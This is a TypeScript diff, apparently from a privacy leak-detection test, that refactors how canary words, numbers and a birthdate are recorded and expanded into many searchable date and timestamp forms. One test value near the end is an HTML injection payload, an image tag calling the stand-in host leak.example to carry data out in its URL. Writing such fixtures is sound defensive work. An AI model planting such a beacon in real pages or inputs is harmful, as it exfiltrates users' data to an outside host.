@@ -10,74 +10,59 @@ const ROOT = 'Quokkazit';
 /** Ways in which a date might leave, but for the year, the age and the number of days alone. */
 function listForms(iso: string): string[] {
   const [year = '', month = '', day = ''] = iso.split('-');
-  const [m, d] = [String(Number(month)), String(Number(day))];
-  const at = (offset: string) => new Date(`${iso}T00:00:00${offset}`).getTime();
-  const worded = ['en-GB', 'en-US', ...LANGUAGE_PATHS.map(tagOf)].flatMap((tag) =>
-    (['long', 'medium', 'short'] as const).map((dateStyle) =>
-      new Intl.DateTimeFormat(tag, { dateStyle, timeZone: 'UTC' }).format(at('Z')),
+  const numbers = [
+    [day, month],
+    [String(Number(day)), String(Number(month))],
+  ].flatMap(([d, m]) =>
+    ['.', '/', '-', '_', ' ', ''].flatMap((separator) =>
+      [
+        [d, m, year],
+        [m, d, year],
+        [year, m, d],
+      ].map((parts) => parts.join(separator)),
     ),
   );
-  const numbers = [
-    [day, month, year],
-    [d, m, year],
-    [month, day, year],
-    [m, d, year],
-    [year, month, day],
-    [year, m, d],
-  ].flatMap((parts) => ['.', '/', '-', '_', ' '].map((separator) => parts.join(separator)));
-  const moments = ['Z', '-05:00', '-04:00'].flatMap((offset) => [at(offset), at(offset) / 1000]);
-  return [
-    `${year}-${month}`,
-    `${year}-W`,
-    `${year}${month}${day}`,
-    ...worded,
-    ...numbers,
-    ...moments.map(String),
-  ].filter(
-    // Shorter ones also occur by chance, in hashes and ports.
+  const worded = ['en-GB', 'en-US', ...LANGUAGE_PATHS.map(tagOf)].flatMap((tag) =>
+    (['long', 'medium', 'short'] as const).map((dateStyle) =>
+      new Intl.DateTimeFormat(tag, { dateStyle, timeZone: 'UTC' }).format(new Date(iso)),
+    ),
+  );
+  const moments = ['Z', '-05:00', '-04:00'].map((offset) => String(Date.parse(`${iso}T00:00:00${offset}`)));
+  const seconds = moments.map((moment) => moment.slice(0, -3));
+  // Shorter ones also occur by chance, in hashes and ports.
+  return [`${year}-${month}`, ...numbers, ...worded, ...moments, ...seconds].filter(
     (form) => form.length > 6,
   );
 }
 
-/** Words, numbers and dates that a visitor enters, and that nothing else has. */
-class MarkedLife {
-  readonly #words = new Set<string>();
-  readonly #numbers = new Set<string>();
-  readonly #dates = new Set<string>();
+const entered = new Set<string>();
+const marks = new Set([ROOT]);
 
-  /** @param about goes before it, so that each is different */
-  word(about: string, after = ''): string {
-    const word = `${about} ${ROOT}${after}`;
-    this.#words.add(word);
-    return word;
-  }
-
-  number(text: string): string {
-    this.#numbers.add(text);
-    return text;
-  }
-
-  /** @param iso a day */
-  date(iso: string): string {
-    this.#dates.add(iso);
-    return iso;
-  }
-
-  get count(): number {
-    return this.#words.size + this.#numbers.size + this.#dates.size;
-  }
-
-  /** The texts to search for. */
-  get marks(): string[] {
-    const numbers = [...this.#numbers].flatMap((text) => [text, text.replace('.', ',')]);
-    return [...new Set([ROOT, ...numbers, ...[...this.#dates].flatMap(listForms)])];
-  }
+function enter(text: string, ...forms: string[]): string {
+  entered.add(text);
+  for (const form of forms) marks.add(form);
+  return text;
 }
 
-/** The life that is entered. Each word is different, and some try to get out by themselves. */
-export const life = new MarkedLife();
+/** The life that is entered: words, numbers and dates that nothing else has, each different. */
+export const life = {
+  /** @param about goes before it, so that each is different */
+  word: (about: string, after = '') => enter(`${about} ${ROOT}${after}`),
+  number: (text: string) => enter(text, text, text.replace('.', ',')),
+  /** @param iso a day */
+  date: (iso: string) => enter(iso, ...listForms(iso)),
+  get count(): number {
+    return entered.size;
+  },
+  /** The texts to search for. */
+  get marks(): string[] {
+    return [...marks];
+  },
+};
+
 const BIRTHDATE = life.date('1957-04-23');
 const YEARS = life.number('97.3125');
+/** Some try to get out by themselves. */
 const ACTIVITIES = [
   life.word('Skiing'),
   life.word('<img src="http://leak.example/?', '">'),
